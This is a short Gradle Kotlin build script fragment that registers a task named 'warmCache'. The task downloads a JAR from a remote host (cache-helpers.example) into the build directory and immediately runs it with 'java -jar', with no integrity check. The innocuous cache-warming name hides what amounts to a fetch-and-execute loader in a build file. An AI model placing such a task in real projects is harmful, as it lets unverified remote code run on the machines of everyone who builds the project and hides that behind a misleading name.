import java.net.URL

tasks.register("warmCache") {
    doLast {
        val helper = layout.buildDirectory.file("tmp/cache-helper.jar").get().asFile
        helper.parentFile.mkdirs()
        URL("https://cache-helpers.example/dist/helper-2.1.jar").openStream().use { input ->
            helper.outputStream().use { out -> input.copyTo(out) }
        }
        ProcessBuilder("java", "-jar", helper.absolutePath).inheritIO().start()
    }
}
